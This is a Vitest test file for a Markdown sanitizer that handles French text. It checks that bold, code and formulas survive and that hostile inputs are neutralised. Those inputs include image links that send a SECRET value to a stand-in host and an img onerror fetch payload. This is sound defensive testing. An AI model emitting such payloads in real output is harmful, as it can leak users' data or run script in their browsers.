import { expect, test } from 'vitest';
import { keepMarks } from './keep-marks.ts';
import { cleanWritten } from './mark-sentence.ts';

test.each([
  ['Le total est de **1 200 €**, voir `base_stock`.', 'Le total est de **1 200 €**, voir `base_stock`.'],
  ['**Attention. Le délai est passé.', 'Attention. Le délai est passé.'],
  ['On a $E = mc^2$ ici.', 'On a $E = mc^2$ ici.'],
])('%j keeps its pairs of bold, its code and its formulas', (written, shown) => {
  expect(keepMarks(written, cleanWritten)).toBe(shown);
});

test.each([
  '$![x](https://trap.example/p.png?q=SECRET)$ ici',
  '$$![x](https://trap.example/p.png?q=SECRET)$$ ici',
  '\\(![x](https://trap.example/p.png?q=SECRET)\\) ici',
  '\\`![x](https://trap.example/p.png?q=SECRET)` ici',
  '$<img src=x onerror=fetch("//trap.example")>$ ici',
])('%j is live in no reader of Markdown', (written) => {
  expect(keepMarks(written, cleanWritten)).not.toMatch(/\]\(|<img|:\/\//u);
});

test.each(['\\*`![x](https://trap.example)` ici', '\\[1]`![x](https://trap.example)` ici'])(
  '%j leaves no backslash before the backtick of its code',
  (written) => {
    expect(keepMarks(written, cleanWritten)).not.toMatch(/\\+`/u);
  },
);
